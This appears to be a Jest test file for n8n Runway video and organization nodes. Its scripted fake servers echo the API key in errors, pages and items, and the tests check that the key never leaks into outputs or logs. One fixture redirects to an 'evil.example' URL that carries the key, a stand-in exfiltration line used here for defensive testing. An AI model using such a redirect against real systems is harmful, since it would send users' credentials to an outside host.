import { inspect } from 'node:util';
import { expect, test } from '@jest/globals';
import type { INodeParameters } from 'n8n-workflow';

import { RunwayOrganization } from '../../nodes/RunwayOrganization/RunwayOrganization.node.ts';
import { RunwayVideo } from '../../nodes/RunwayVideo/RunwayVideo.node.ts';
import { loggedSoFar, type NodeRunResult, runNode } from '../support/n8n.mts';
import { answerJson, type Script, scriptedServers } from './scripted-server.mts';

/** The key shows in nothing that a person, a log or a later node gets to see. */
const API_KEY = `key_${'5ec2e7'.repeat(20)}`;

const servers = scriptedServers();

async function order(script: Script, onError = 'stopWorkflow'): Promise<NodeRunResult> {
	const api = await servers.start(script);
	return await runNode({
		node: new RunwayVideo(),
		parameters: { operation: 'textToVideo', promptText: 'A calm sea', duration: 2 },
		credential: { apiKey: API_KEY, baseUrl: api.url },
		settings: { onError } as never,
	});
}

/** All of it, also what JSON leaves out: causes, hidden fields, the stacks of errors. */
function everything(result: NodeRunResult): string {
	const shown = inspect([result.run, result.error, result.outputs], {
		depth: Infinity,
		showHidden: true,
		maxArrayLength: Infinity,
		maxStringLength: Infinity,
		getters: true,
	});
	return `${JSON.stringify(result.run)} ${shown} ${JSON.stringify(loggedSoFar())}`;
}

const FAULTS: Array<[what: string, script: Script]> = [
	[
		'a refusal that repeats it',
		(_request, response) => answerJson(response, { error: `${API_KEY} is disabled` }, 401),
	],
	[
		'a refusal that repeats it in its issues',
		(_request, response) =>
			answerJson(
				response,
				{ error: 'No', issues: [{ path: [API_KEY], message: `Bearer ${API_KEY}` }] },
				400,
			),
	],
	[
		'a refusal that repeats it as its code',
		(_request, response) => answerJson(response, { error: 'No', code: API_KEY }, 400),
	],
	[
		'a web page that repeats the request',
		({ headers }, response) => {
			response.writeHead(502, { 'content-type': 'text/html' });
			response.end(`<pre>${JSON.stringify(headers)}</pre>`);
		},
	],
	[
		'a redirect that carries it',
		(_request, response) =>
			response.writeHead(302, { location: `https://evil.example/?key=${API_KEY}` }).end(),
	],
	['a connection that breaks', (_request, response) => response.destroy()],
	[
		'an answer that breaks off',
		(_request, response) => {
			response.writeHead(200, { 'content-type': 'application/json', 'content-length': 999 });
			response.write('{"id":', () => response.destroy());
		},
	],
	[
		'a task whose failure repeats it',
		({ path }, response) =>
			answerJson(
				response,
				path === '/v1/text_to_video'
					? { id: 't1' }
					: { id: 't1', status: 'FAILED', failure: `${API_KEY} has no credits`, failureCode: 'X' },
			),
	],
	[
		'a file that cannot be fetched',
		({ path }, response) =>
			answerJson(
				response,
				path === '/v1/text_to_video'
					? { id: 't1' }
					: { id: 't1', status: 'SUCCEEDED', output: ['https://127.0.0.1:1/a.mp4'] },
			),
	],
];

test.each(FAULTS)('%s, as an error of the execution', async (_what, script) => {
	const result = await order(script);
	expect(result.error).toBeDefined();
	expect(everything(result).includes(API_KEY)).toBe(false);
});

test.each(FAULTS)('%s, as an item of the error output', async (_what, script) => {
	const result = await order(script, 'continueErrorOutput');
	expect(result.outputs.flat()).toMatchObject([
		{ json: { error: { message: expect.any(String) } } },
	]);
	expect(everything(result).includes(API_KEY)).toBe(false);
});

test('nor in an item, when the API repeats it there and it is no usual key', async () => {
	const apiKey = 'gateway-secret-of-its-own';
	const api = await servers.start(({ headers }, response) =>
		answerJson(response, { creditBalance: 7, tier: {}, usage: {}, caller: headers.authorization }),
	);
	const result = await runNode({
		node: new RunwayOrganization(),
		parameters: { operation: 'get' },
		credential: { apiKey, baseUrl: api.url },
	});
	expect(result.outputs[0][0].json.caller).toBe('Bearer key_…');
	expect(everything(result).includes(apiKey)).toBe(false);
});

test('nor in what comes out when all goes well', async () => {
	const api = await servers.start(({ path }, response) =>
		answerJson(
			response,
			path === '/v1/text_to_video'
				? { id: 't1', estimatedCost: { credits: 5 } }
				: { creditBalance: 7, tier: {}, usage: {} },
		),
	);
	const credential = { apiKey: API_KEY, baseUrl: api.url };
	const ordered: INodeParameters = {
		operation: 'textToVideo',
		promptText: 'A calm sea',
		waitForCompletion: 'doNotWait',
	};
	const task = await runNode({ node: new RunwayVideo(), parameters: ordered, credential });
	const organization = await runNode({
		node: new RunwayOrganization(),
		parameters: { operation: 'get' },
		credential,
	});
	expect(task.outputs[0][0].json.taskId).toBe('t1');
	expect(organization.outputs[0][0].json.creditBalance).toBe(7);
	expect(`${everything(task)} ${everything(organization)}`.includes(API_KEY)).toBe(false);
	expect(api.seen.map(({ path, headers }) => [path, headers.authorization])).toEqual([
		['/v1/text_to_video', `Bearer ${API_KEY}`],
		['/v1/organization', `Bearer ${API_KEY}`],
		['/v1/organization', `Bearer ${API_KEY}`],
	]);
});
